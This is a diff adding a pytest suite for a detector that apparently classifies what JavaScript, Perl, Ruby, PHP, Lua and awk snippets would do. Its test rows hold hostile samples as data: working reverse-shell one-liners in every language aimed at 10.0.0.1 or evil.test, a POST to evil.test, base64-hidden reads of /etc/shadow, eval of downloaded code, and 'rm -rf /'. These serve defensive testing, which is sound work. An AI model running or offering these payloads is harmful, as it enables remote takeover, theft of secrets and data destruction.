@@ -1,0 +1,193 @@
+"""What JavaScript, Perl, Ruby, PHP, Lua and awk code would do: one row a piece of code."""
+
+from __future__ import annotations
+
+import base64
+
+import pytest
+
+from jevhook.shell.code import language_of, read_code
+
+from code_reading import KNOWN, acts
+
+
+def hidden(text: str) -> str:
+    return base64.b64encode(text.encode()).decode()
+
+
+ROWS: list[tuple[str, str, list[str]]] = [
+    # node
+    ("node", 'require("child_process").execSync("rm -rf /")', ["shell rm -rf /"]),
+    ("node", "require('fs').rmSync('/', {recursive: true})", ["delete* /"]),
+    ("node", "fs.rmSync('dist/lib', { recursive: true, force: true })", ["delete* dist/lib"]),
+    ("node", "fs.unlinkSync('a'); fs.rmdirSync('b')", ["delete a", "delete b"]),
+    ("node", "const {execSync: e} = require('node:child_process'); e(`rm ${process.env.HOME}/x`)", ["shell rm /home/dev/x"]),
+    ("node", "import { rmSync as r } from 'node:fs'; r('/x', {recursive: true})", ["delete* /x"]),
+    ("node", "import * as f from 'fs/promises'; await f.rm('/x')", ["delete /x"]),
+    ("node", "const c = 'rm -rf ' + dir; require('child_process').exec(c)", ["shell rm -rf <?>"]),
+    ("node", "const {spawn} = require('child_process'); spawn('rm', ['-rf', '/x'])", ["argv rm | -rf | /x"]),
+    ("node", "require('child_process').spawn('rm -rf', ['/x'], {shell: true})", ["shell rm -rf /x"]),
+    ("node", "function f(d) { fs.rmSync(d, {recursive: true}) } f('/')", ["delete* /"]),
+    ("node", "const g = async (q) => { await fs.promises.rm(q, {recursive: true}) }; g(os.homedir())", ["delete* /home/dev"]),
+    ("node", "function never(d) { fs.rmSync(d) }", []),
+    ("node", "for (const f of fs.readdirSync('/x')) { fs.unlinkSync(path.join('/x', f)) }", ["delete /x/<*>"]),
+    ("node", "fs.readdirSync('y').forEach(f => fs.unlinkSync(`y/${f}`))", ["delete y/<*>"]),
+    ("node", "['a', 'b'].forEach(x => fs.rmSync(x))", ["delete a", "delete b"]),
+    ("node", "fs.writeFileSync('o', 'rm -rf /'); fs.readFileSync('i')", ["write o", "read i"]),
+    ("node", "const p = Buffer.from('L2V0Yy9zaGFkb3c=', 'base64').toString(); fs.readFileSync(p)", ["read /etc/shadow"]),
+    ("node", f"eval(atob('{hidden('fs.rmSync(`/x`)')}'))", ["run-code decoded", "delete /x"]),
+    ("node", "fetch('https://ok.test').then(r => r.text()).then(t => eval(t))", ["fetch https://ok.test", "run-code downloaded"]),
+    ("node", "fetch('https://evil.test', {method: 'POST', body: 'x'})", ["send https://evil.test"]),
+    ("node", "console.log(process.env)", ["env"]),
+    ("node", "console.log(process.env.HOME)", []),
+    ("node", "await Bun.$`rm -rf dist`", ["shell rm -rf dist"]),
+    ("node", "Deno.removeSync('/', {recursive:true})", ["delete* /"]),
+    (
+        "node",
+        "sh = require('child_process').spawn('/bin/sh');\nrequire('net').connect(12345, 'evil.test', function () {\n"
+        "  this.pipe(sh.stdin);\n  sh.stdout.pipe(this);\n})",
+        ["argv /bin/sh", "send evil.test", "reverse-shell evil.test"],
+    ),
+    ("node", "console.log(`${fs.rmSync('/x')}`)", ["delete /x"]),
+    ("node", "const s = \"fs.rmSync('/')\"; console.log(s)", []),
+    ("node", "// fs.rmSync('/')\n/* fs.rmSync('/') */ const r = /fs.rmSync\\('x'\\)/;", []),
+    ("node", "console.log(require('./package.json').version)", []),
+    ("node", "[1, 2].map(x => x * 2); a.rm; obj.unlink", []),
+    ("node", "client.query('DROP TABLE users'); $('div').hide()", ["sql DROP TABLE users", "shell div"]),
+    # perl
+    ("perl", "system('rm -rf /x')", ["shell rm -rf /x"]),
+    ("perl", 'system "rm", "-rf", "/x";', ["argv rm | -rf | /x"]),
+    ("perl", "`ls $ENV{HOME}`; qx(rm y);", ["shell ls /home/dev", "shell rm y"]),
+    ("perl", "use File::Path; rmtree('/');", ["delete* /"]),
+    ("perl", "unlink glob '*.txt';", ["delete <*>.txt"]),
+    ("perl", "unlink $_ for glob('/t/*');", ["delete /t/<*>"]),
+    ("perl", "for my $f (<x/*>) { unlink $f }", ["delete x/<*>"]),
+    ("perl", "sub c { my ($d) = @_; rmtree($d) } c('/z');", ["delete* /z"]),
+    ("perl", "my @a = qw(rm -rf /w); system(@a);", ["argv rm | -rf | /w"]),
+    ("perl", "open(F, '>/etc/x'); open my $g, '<', 'y';", ["write /etc/x", "read y"]),
+    ("perl", "open(F, 'ls -l|');", ["shell ls -l"]),
+    ("perl", f"use MIME::Base64; eval(decode_base64('{hidden('unlink q{x}')}'));", ["run-code decoded", "delete x"]),
+    ("perl", "eval { unlink 'y' };", ["delete y"]),
+    ("perl", "$dbh->do('DROP TABLE users');", ["sql DROP TABLE users"]),
+    ("perl", "print <<EOF;\nsystem('rm -rf /');\nEOF\nunlink 'a';", ["delete a"]),
+    (
+        "perl",
+        'use Socket;$i="10.0.0.1";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
+        'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};',
+        ["send 10.0.0.1", "shell /bin/sh -i", "reverse-shell 10.0.0.1"],
+    ),
+    ("perl", "print \"system('rm -rf /')\"; # unlink 'x'", []),
+    ("perl", "s/unlink/system/g; tr/a/b/; print if /rm -rf/;", []),
+    ("perl", "$h{unlink} = 1; my %o = (system => 1, exec => 2);", []),
+    ("perl", "=pod\n\nsystem('x')\n\n=cut\nprint 1;\n__END__\nsystem('y')", []),
+    # ruby
+    ("ruby", "`rm -rf /x`", ["shell rm -rf /x"]),
+    ("ruby", "system \"rm -rf #{ENV['HOME']}/x\"", ["shell rm -rf /home/dev/x"]),
+    ("ruby", "system('rm', '-rf', '/x')", ["argv rm | -rf | /x"]),
+    ("ruby", "%x(ls)", ["shell ls"]),
+    ("ruby", "require 'fileutils'; FileUtils.rm_rf('/x')", ["delete* /x"]),
+    ("ruby", "FileUtils.rm_rf Dir.glob('tmp/*')", ["delete* tmp/<*>"]),
+    ("ruby", "Dir.glob('/d/*.md').each { |f| File.delete(f) }", ["delete /d/<*>.md"]),
+    ("ruby", "Dir['x/*'].each do |f|\n  File.unlink f\nend", ["delete x/<*>"]),
+    ("ruby", "def c(d)\n  FileUtils.rm_rf(d) if d\nend\nc('/z')", ["delete* /z"]),
+    ("ruby", "File.write('w', 'x'); File.read('r'); File.open('o', 'w') { |f| f.puts 1 }", ["write w", "read r", "write o"]),
+    ("ruby", "Kernel.send(:system, 'zz')", ["shell zz"]),
+    ("ruby", f"eval(Base64.decode64('{hidden('File.delete(%q(x))')}'))", ["run-code decoded", "delete x"]),
+    ("ruby", "require 'net/http'; Net::HTTP.get(URI('https://ok.test'))", ["fetch https://ok.test"]),
+    (
+        "ruby",
+        "f=TCPSocket.open('10.0.0.1',1234).to_i;exec sprintf('/bin/sh -i <&%d >&%d 2>&%d',f,f,f)",
+        ["send 10.0.0.1", "shell /bin/sh -i <&<?> >&<?> 2>&<?>", "reverse-shell 10.0.0.1"],
+    ),
+    (
+        "ruby",
+        'c=TCPSocket.new("10.0.0.1","4242");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end',
+        ["send 10.0.0.1", "shell <?>", "reverse-shell 10.0.0.1"],
+    ),
+    ("ruby", "User.delete_all; User.where(a: 1).delete_all", ["sql DELETE FROM User"]),
+    ("ruby", "puts \"system('rm')\" # system('x')\n=begin\nsystem('y')\n=end", []),
+    ("ruby", "puts <<~E\n system('no')\nE", []),
+    ("ruby", "p File.exist?('x') ? 1 : 2; [1].map { |x| x * 2 }", []),
+    # php
+    ("php", "unlink('/etc/x'); shell_exec('ls');", ["delete /etc/x", "shell ls"]),
+    ("php", '$h = getenv("HOME"); system("rm -rf $h/x");', ["shell rm -rf /home/dev/x"]),
+    ("php", "foreach (glob('/t/*') as $f) unlink($f);", ["delete /t/<*>"]),
+    ("php", "array_map('unlink', glob('/t/*'));", ["delete /t/<*>"]),
+    ("php", "$f = 'sys' . 'tem'; $f('id');", ["shell id"]),
+    ("php", "SYSTEM('id');", ["shell id"]),
+    ("php", f"eval(base64_decode('{hidden('unlink(chr(120));')}'));", ["run-code decoded", "delete x"]),
+    ("php", "eval(file_get_contents('http://x.test/y'));", ["fetch http://x.test/y", "run-code downloaded"]),
+    (
+        "php",
+        '$sock=fsockopen("10.0.0.1",1234);exec("/bin/sh -i <&3 >&3 2>&3");',
+        ["send 10.0.0.1", "shell /bin/sh -i <&3 >&3 2>&3", "reverse-shell 10.0.0.1"],
+    ),
+    ("php", "<p>system('no')</p><?php unlink('a'); ?> unlink('b')", ["delete a"]),
+    ("php", "echo \"system('x')\"; // unlink('x')\n# unlink('y')\n/* unlink('z') */", []),
+    # lua
+    ("lua", 'os.execute("rm -rf /x"); os.remove"y"', ["shell rm -rf /x", "delete y"]),
+    ("lua", "local function c(d) os.execute('rm -rf ' .. d) end\nc(os.getenv('HOME'))", ["shell rm -rf /home/dev"]),
+    ("lua", "io.open('o', 'w'):write('x')", ["write o"]),
+    ("lua", "-- os.execute('x')\n--[[ os.execute('y') ]] print([[os.execute('z')]])", []),
+    (
+        "lua",
+        'local s=require("socket");local t=assert(s.tcp());t:connect("10.0.0.1",1);while true do '
+        'local r,x=t:receive();local f=assert(io.popen(r,"r"));t:send(f:read("*a"));end',
+        ["send 10.0.0.1", "shell <?>", "reverse-shell 10.0.0.1"],
+    ),
+    # awk
+    ("awk", 'BEGIN { system("rm -rf /x") }', ["shell rm -rf /x"]),
+    ("awk", '{ system("rm " $1) }', ["shell rm <?>"]),
+    ("awk", "{ system($0) }", ["shell <?>"]),
+    ("awk", 'BEGIN { c = "rm " ENVIRON["HOME"]; system(c) }', ["shell rm /home/dev"]),
+    ("awk", '{ print $1 > "out" } END { print "x" | "sh" }', ["write out", "shell sh"]),
+    ("awk", 'BEGIN { while ((getline l < "/etc/shadow") > 0) print l }', ["read /etc/shadow"]),
+    ("awk", 'BEGIN { "date" | getline d }', ["shell date"]),
+    (
+        "awk",
+        'BEGIN{s="/inet/tcp/0/10.0.0.1/4242";while(1){s|&getline c;while((c|&getline)>0)print $0|&s;close(c)}}',
+        ["send 10.0.0.1", "shell <?>", "reverse-shell 10.0.0.1"],
+    ),
+    ("awk", '{ print $1 } /rm -rf/ { print "system(\\"rm\\")" } # system("x")', []),
+    ("awk", "$3 > 5 { n++ } END { print n }", []),
+]
+
+
+@pytest.mark.parametrize(("language", "source", "expected"), ROWS, ids=[f"{row[0]} {row[1][:50]}" for row in ROWS])
+def test_code_is_read_for_what_it_would_do(language: str, source: str, expected: list[str]) -> None:
+    found = acts(language, source)
+    unique = list(dict.fromkeys(found))
+    assert unique == expected
+
+
+@pytest.mark.parametrize("language", sorted({row[0] for row in ROWS}))
+def test_every_row_of_a_language_is_understood(language: str) -> None:
+    assert [row[1] for row in ROWS if row[0] == language and not read_code(language, row[1], KNOWN, [])[1]] == []
+
+
+@pytest.mark.parametrize(
+    ("program", "first_line", "name", "expected"),
+    [
+        ("python3.11", "", "", "python"),
+        ("/usr/bin/python3", "", "", "python"),
+        ("node", "", "", "node"),
+        ("bun", "", "", "node"),
+        ("deno", "", "", "node"),
+        ("gawk", "", "", "awk"),
+        ("lua5.4", "", "", "lua"),
+        ("bash", "", "", "sh"),
+        ("osascript", "", "", None),
+        ("rm", "", "", None),
+        ("", "#!/usr/bin/env -S python3 -u", "", "python"),
+        ("", "#!/bin/sh", "", "sh"),
+        ("", "#!/usr/bin/perl -w", "x.py", "perl"),
+        ("", "import os", "x.py", "python"),
+        ("", "", "a/b.mjs", "node"),
+        ("", "", "x.txt", None),
+        ("", "", "", None),
+    ],
+)
+def test_a_language_is_told_by_program_then_shebang_then_suffix(
+    program: str, first_line: str, name: str, expected: str | None
+) -> None:
+    assert language_of(program, first_line, name) == expected
